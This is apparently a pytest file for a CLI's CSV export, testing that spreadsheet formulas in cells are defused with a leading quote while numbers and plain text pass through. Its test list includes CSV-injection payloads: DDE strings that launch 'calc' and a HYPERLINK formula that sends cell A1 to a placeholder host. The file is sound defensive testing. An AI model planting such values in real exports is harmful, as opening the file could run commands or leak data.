"""Cells that a spreadsheet would run are made harmless; everything else stays as it is."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support import Project, table_definition

from mlcli.exports.csv import writing
from mlcli.exports.csv.layout import DELIMITERS
from mlcli.exports.csv.reader import CsvReader
from mlcli.grammar import cells

EXAMPLES = int(os.environ.get("EXAMPLES", "60"))  # more in `make slow`

FORMULAS = [
    "=1+1",
    "=",
    "==",
    '=HYPERLINK("http://x.example?x="&A1,"here")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+A1",
    "-1+1",
    "-A1",
    "-2+3+cmd|' /C calc'!D2",
    "-",
    "+",
    "--5",
    "-1,5",
    "-5 €",
    "@SUM(A1:A9)",
    "@",
    "\t=1+1",
    "\tplain",
    "\rplain",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u00a0 \t@A1",
    "\u2003-A1",
    "\v=1",
    "\u3000+A1",
    "harmless\n=1+1",
    "harmless\r\n  @A1",
    "harmless\r-A1",
    "harmless\n\u00a0+A1",
]
HARMLESS = [
    "",
    " ",
    "a=1",
    "1+1",
    "a-b",
    "a@b.example",
    "2023-06-08",
    "'=1+1",
    '"=1+1"',
    "(=1)",
    "harmless\nwords",
    "a\tb",
    "a\rb",
    "#REF!",
    "|cmd",
    "%0A=1",
    "•=1",
]
NUMBERS = ["-5", "+5", "-0", "-.5", "+1e3", "-1E-3", " -5", "-5 ", "\u00a0-5", "5", "0.1", "-1."]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_gets_a_quote_in_front(cell: str) -> None:
    assert writing.defused(cell) == "'" + cell


@pytest.mark.parametrize("cell", HARMLESS + NUMBERS)
def test_what_is_no_formula_stays(cell: str) -> None:
    assert writing.defused(cell) == cell


@settings(max_examples=EXAMPLES, deadline=None)
@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_numbers_are_never_touched(number: float) -> None:
    for text in (repr(number), f"{number:+}", f" {number}", f"{number:.3e}"):
        assert writing.defused(text) == text


@settings(max_examples=EXAMPLES, deadline=None)
@given(
    st.text(max_size=8)
    | st.lists(st.sampled_from([*"=+-@\t\r\n a1\u00a0'"]), max_size=6).map("".join)
)
def test_what_is_left_is_no_formula_in_any_line(cell: str) -> None:
    """By a rule of the test's own, letter by letter."""
    harmless = writing.defused(cell)

    assert harmless in {cell, "'" + cell}
    assert writing.defused(harmless) == harmless or "\n" in cell or "\r" in cell
    begins = cell.lstrip()[:1] in {*"=+-@"} if cell.strip() else False
    if not cells.is_number(cell):
        if begins or cell[:1] in {"\t", "\r"}:
            assert harmless == "'" + cell
        if not any(sign in cell for sign in "=+-@\t\r"):
            assert harmless == cell


cells_ = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=6)
tricky = st.lists(
    st.sampled_from(['"', '""', ",", ";", "\t", "|", "\n", "\r", "\r\n", " ", "'", "=1"]),
    max_size=4,
).map("".join)


@settings(max_examples=EXAMPLES, deadline=None)
@given(
    record=st.lists(cells_ | tricky, min_size=2, max_size=5), mark=st.sampled_from([*DELIMITERS])
)
def test_a_line_reads_back_by_pythons_csv_and_by_our_reader(
    tmp_path_factory: pytest.TempPathFactory, record: list[str], mark: str
) -> None:
    line = writing.line(record, mark)

    assert line.endswith("\n")
    assert list(csv.reader(io.StringIO(line, newline=""), delimiter=mark, strict=True)) == [record]

    path = tmp_path_factory.getbasetemp() / "line.csv"
    header = [f"c{at}" for at in range(len(record))]
    path.write_bytes((writing.line(header, mark) + line).encode())
    (found,) = CsvReader(path, name="line.csv", delimiter=mark)
    assert found == (2, record)


def test_only_what_needs_quotes_gets_them() -> None:
    assert writing.line(["a b", "", "'", "x;y", "1"], ",") == "a b,,',x;y,1\n"
    assert writing.line(['a"b', "a,b", "a\rb", "a\nb"], ",") == '"a""b","a,b","a\rb","a\nb"\n'


# ---- predict --input ---------------------------------------------------------------------------


@pytest.fixture
def nights(project: Project) -> Project:
    """A model whose answers, and whose reason to refuse, are formulas."""
    rows = ["guests,open,mood"]
    rows += [f"{n},yes,{'=calm()' if n < 20 else '@busy'}" for n in range(40)]
    project.write("data/nights.csv", "\n".join(rows) + "\n")
    rule = 'rules:\n  - keep: {open: "yes", because: =A1+closed}\nfeatures:'
    project.define(
        table_definition(label="mood", model="logistic_regression").replace("features:", rule),
        name="nights",
    )
    project.works("fit")
    return project


def asked(project: Project, rows: list[list[str]], *options: str) -> tuple[list[list[str]], str]:
    text = io.StringIO()
    csv.writer(text).writerows([["=note", "guests", "open"], *rows])
    path = project.write("q.csv", text.getvalue())
    ended = project.works("predict", "--input", path, *options)
    read = list(csv.reader(io.StringIO(ended.out, newline=""), strict=True))
    project.works("predict", "--input", path, "--output", "a.csv", *options)
    assert Path("a.csv").read_bytes().decode() == ended.out
    return read, ended.err


def test_rows_labels_notes_and_names_of_columns_are_harmless(nights: Project) -> None:
    rows = [[cell, "-5" if at % 2 else "39", "yes"] for at, cell in enumerate(FORMULAS)]
    rows += [["=x", "5", "no"], ["plain", "5", "yes"]]

    (header, *found), said = asked(nights, rows)

    assert header == ["'=note", "guests", "open", "answer", "probability", "note"]
    assert [row[0] for row in found] == [*("'" + cell for cell in FORMULAS), "'=x", "plain"]
    assert [row[1] for row in found] == [row[1] for row in rows]  # -5 is a number
    assert {row[3] for row in found[:-2]} == {"'=calm()", "'@busy"}
    assert found[-2][3:] == ["", "", "'=A1+closed"]
    assert found[-1][3] == "'=calm()"
    for row in found:
        for cell in row:
            assert writing.defused(cell) == cell or cell.startswith("'")
    assert (
        f"note: {len(FORMULAS) + 1} rows with a ' before what a spreadsheet would run"
        in " ".join(said.split())
    )


def test_raw_rows_come_back_to_the_letter(nights: Project) -> None:
    rows = [[cell, "39", "yes"] for cell in FORMULAS + HARMLESS] + [["=x", "5", "no"]]

    (header, *found), said = asked(nights, rows, "--raw")

    assert header[:3] == ["=note", "guests", "open"]
    assert [row[:3] for row in found] == rows
    assert {row[3] for row in found[:-1]} == {"@busy"}
    assert found[-1][5] == "=A1+closed"
    assert "spreadsheet" not in said


def test_nothing_is_said_where_nothing_was_made_harmless(nights: Project) -> None:
    _, said = asked(nights, [["plain", "-5", "yes"]])

    assert "spreadsheet" not in said


def test_raw_is_about_rows(nights: Project) -> None:
    assert nights.fails(2, "predict", "--guests", "5", "--raw").startswith(
        "error: --raw needs --input"
    )


def test_json_is_read_by_programs_and_has_no_quote(nights: Project) -> None:
    path = nights.write("q.csv", "guests,open\n5,yes\n39,yes\n")
    found = nights.works("predict", "--input", path, "--json").json

    assert [answer["answer"] for answer in found["predictions"]] == ["=calm()", "@busy"]
